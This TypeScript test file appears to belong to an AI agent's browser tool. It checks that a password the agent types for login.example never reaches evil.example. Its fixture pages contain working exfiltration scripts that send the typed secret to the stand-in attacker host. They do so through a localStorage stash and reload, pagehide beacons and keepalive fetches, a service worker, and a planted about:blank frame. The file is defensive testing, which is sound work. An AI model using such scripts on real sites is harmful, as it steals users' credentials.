// A secret tabward typed stays the session's taint after the document it was typed into is gone, and its place is
// the document it was typed into, not the page around it (browser/tabWatchers.ts). Found by an attack review after
// issue 37's eighth pass: while only the live document counted as holding it, a page kept what was typed and sent
// it once that document was gone. Each variant on a real tabward (in process, a fresh one each) over a real
// Chromium, the secret declared for login.example and typed there with nobody asked, a human who refuses every
// request tabward did not predict; what evil.example's server received is the verdict:
// - the page stashes the value in its storage and reloads; the new document sends it;
// - another tab of the same site, opened later, reads the stash and sends it;
// - the page's pagehide sends it (keepalive fetch, beacon, fetchLater) as the agent navigates away or closes the tab;
// - a login frame inside evil.example's page hands it to its service worker, which sends it;
// and a field evil.example wrote into an about:blank frame it sent, two frames down, inside login.example's frame
// is evil.example's document: the secret is not typed there unasked.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';

const secret = 'S3cretTyped-77431';

describe('a typed secret outlives the document it was typed into', () => {
  let site: Fixture;
  let tw: InProcessBrowser | undefined;
  let mcp: InProcessMcp | undefined;
  const url = (host: string, path: string) => site.url(host, path);
  const leaked = () =>
    site.seen.filter(
      (request) =>
        request.host.startsWith('evil.example:') && `${request.path} ${request.body}`.includes(secret),
    );
  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

  /** A fresh tabward with the secret declared for login.example, and a client whose human refuses the unpredicted. */
  const agent = async (): Promise<InProcessMcp> => {
    await mcp?.close();
    await tw?.close();
    tw = await startInProcess({ secrets: `LOGIN_PASSWORD@${url('login.example', '')}=${secret}\n` });
    mcp = await tw.connect();
    mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    return mcp;
  };
  const typeSecret = async (agentMcp: InProcessMcp) => {
    const snapshot = await agentMcp.call('take_snapshot');
    const filled = await agentMcp.call('fill', {
      ref: refOf(snapshot.text, 'Password'),
      secret: 'LOGIN_PASSWORD',
    });
    assert.ok(!filled.isError, filled.text);
  };

  before(async () => {
    const send = (what: string) =>
      `fetch(${JSON.stringify(url('evil.example', '/k?'))} + '${what}=' + encodeURIComponent(s), { mode: 'no-cors' }).catch(() => {});
       navigator.sendBeacon(${JSON.stringify(url('evil.example', '/beacon'))}, s);`;
    site = await startFixture(
      {
        // Keeps what is typed (and reloads, at /stash), and sends it from the next document of the site.
        '/stash': (req, _body, res) =>
          html(
            res,
            `<title>Sign in</title><label>Password <input type="password" id="pw"></label>
            <script>
              const s = localStorage.getItem('s');
              if (s) { localStorage.removeItem('s'); ${send('stashed')} }
              pw.addEventListener('input', () => { localStorage.setItem('s', pw.value);
                ${req.url?.includes('keep') ? '' : 'setTimeout(() => location.reload(), 300);'} });
            </script>`,
          ),
        // Sends it as the document goes away.
        '/leaving': (_req, _body, res) =>
          html(
            res,
            `<title>Sign in</title><label>Password <input type="password" id="pw"></label>
            <script>
              const k = ${JSON.stringify(url('evil.example', '/k?'))}; let v = '';
              pw.addEventListener('input', () => { v = pw.value;
                try { fetchLater(k + 'later=' + encodeURIComponent(v), { method: 'POST', body: v }) } catch {} });
              addEventListener('pagehide', () => { if (!v) return;
                fetch(k + 'keepalive=' + encodeURIComponent(v), { method: 'POST', keepalive: true, mode: 'no-cors', body: v });
                navigator.sendBeacon(k + 'beacon=' + encodeURIComponent(v), v); });
            </script>`,
          ),
        // Hands it to its service worker, which sends it on its own.
        '/worker-login': (_req, _body, res) =>
          html(
            res,
            `<title>Sign in</title><label>Password <input type="password" id="pw"></label>
            <script>
              navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => { window.sw = r.active; document.title = 'Ready'; });
              pw.addEventListener('input', () => window.sw && window.sw.postMessage(pw.value));
            </script>`,
          ),
        '/sw.js': (_req, _body, res) => {
          res.writeHead(200, { 'content-type': 'text/javascript' }).end(
            `addEventListener('message', (e) => {
               for (const ms of [200, 2000]) setTimeout(() => fetch(${JSON.stringify(url('evil.example', '/k?sw='))} + encodeURIComponent(e.data), { mode: 'no-cors' }).catch(() => {}), ms);
             });`,
          );
        },
        '/embed': (_req, _body, res) =>
          html(
            res,
            `<title>Embed</title><p>Sign in below</p><iframe src="${url('login.example', '/worker-login')}" width="500" height="200"></iframe>`,
          ),
        // A login page with a frame of its own, which the page framing it sends to about:blank and writes a
        // password field into: a document of evil.example's, two frames down in login.example's.
        '/login-captcha': (_req, _body, res) =>
          html(
            res,
            `<title>Sign in</title><p>Sign in to Login</p><iframe src="${url('captcha.example', '/captcha')}" width="400" height="120"></iframe>`,
          ),
        '/captcha': (_req, _body, res) => html(res, '<title>captcha</title><p>I am human</p>'),
        '/grandchild': (_req, _body, res) =>
          html(
            res,
            `<title>Embed</title><p>Sign in below</p><iframe id="lf" src="${url('login.example', '/login-captcha')}" width="500" height="250"></iframe>
            <script>
              lf.addEventListener('load', () => setTimeout(() => {
                frames[0][0].location = 'about:blank';
                setTimeout(() => { const d = frames[0][0].document; window.planted = d;
                  d.body.innerHTML = '<label>Password <input type=password id=pw></label>'; document.title = 'Planted'; }, 300);
              }, 200));
            </script>`,
          ),
        '/next': (_req, _body, res) => html(res, '<title>Next</title><p>next</p>'),
        '/k': (_req, _body, res) => html(res, 'ok'),
        '/beacon': (_req, _body, res) => html(res, 'ok'),
      },
      { tls: true },
    );
  });
  after(async () => {
    await mcp?.close();
    await tw?.close();
    await site?.close();
  });

  test('stashed and sent by the document that replaces it (a reload)', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('login.example', '/stash') });
    await typeSecret(agentMcp);
    await pause(2_500);
    await agentMcp.call('take_snapshot');
    assert.deepEqual(leaked(), []);
  });

  test('stashed and sent by a later tab of the same site', async () => {
    const agentMcp = await agent();
    const first = await agentMcp.call('new_page', { url: url('login.example', '/stash?keep') });
    await typeSecret(agentMcp);
    const pageId = /Tab (p\d+)/.exec(first.text)?.[1];
    await agentMcp.call('close_page', { pageId });
    await agentMcp.call('new_page', { url: url('login.example', '/stash?later') });
    await pause(1_500);
    assert.deepEqual(leaked(), []);
  });

  for (const leave of ['navigate_page', 'close_page'] as const)
    test(`sent by its pagehide as the agent leaves (${leave})`, async () => {
      const agentMcp = await agent();
      const opened = await agentMcp.call('new_page', { url: url('login.example', '/leaving') });
      await typeSecret(agentMcp);
      if (leave === 'navigate_page')
        await agentMcp.call('navigate_page', { url: url('shop.example', '/next') });
      else await agentMcp.call('close_page', { pageId: /Tab (p\d+)/.exec(opened.text)?.[1] });
      await pause(2_500);
      assert.deepEqual(leaked(), []);
    });

  test('a field another site wrote into an about:blank frame inside the login frame is not the login site’s', async () => {
    const agentMcp = await agent();
    // Whatever tabward asks about typing the secret there is refused.
    agentMcp.human.policy = () => ({ decision: 'reject' });
    await agentMcp.call('new_page', { url: url('evil.example', '/grandchild') });
    let snapshot = await agentMcp.call('take_snapshot');
    for (let tries = 0; !snapshot.text.includes('Planted') && tries < 40; tries++) {
      await pause(100);
      snapshot = await agentMcp.call('take_snapshot');
    }
    assert.match(snapshot.text, /Planted/, 'the page did not plant its field');
    await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Password'), secret: 'LOGIN_PASSWORD' });
    const evil = tw?.browser.session.pages
      .list()
      .find((tab) => tab.page.url().includes('evil.example'))?.page;
    const planted = await evil?.evaluate(
      "(() => { const field = window.planted && window.planted.getElementById('pw'); return field ? field.value : null; })()",
    );
    assert.notEqual(planted, secret, 'the secret was typed, unasked, into a document evil.example reads');
    assert.ok(
      agentMcp.human.questions.some((question) => /evil\.example/.test(question)),
      `the question did not name the document's real site: ${agentMcp.human.questions.join('\n---\n')}`,
    );
  });

  test('sent by the login page’s own service worker: stopped, and the audit says so', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('login.example', '/worker-login') });
    await pause(1_500);
    await typeSecret(agentMcp);
    await pause(3_000);
    await agentMcp.call('take_snapshot');
    assert.deepEqual(leaked(), []);
    const stops = agentMcp
      .audit()
      .filter(
        (record) => record.outcome === 'blocked' && /evil\.example:\d+\/k\?sw=/.test(JSON.stringify(record)),
      );
    assert.ok(stops.length > 0, 'the worker’s stopped request is not in the audit');
  });

  test('typed into a login frame of an evil page, sent by the frame’s service worker', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/embed') });
    await pause(1_500);
    await typeSecret(agentMcp);
    await pause(3_000);
    await agentMcp.call('take_snapshot');
    assert.deepEqual(leaked(), []);
  });
});
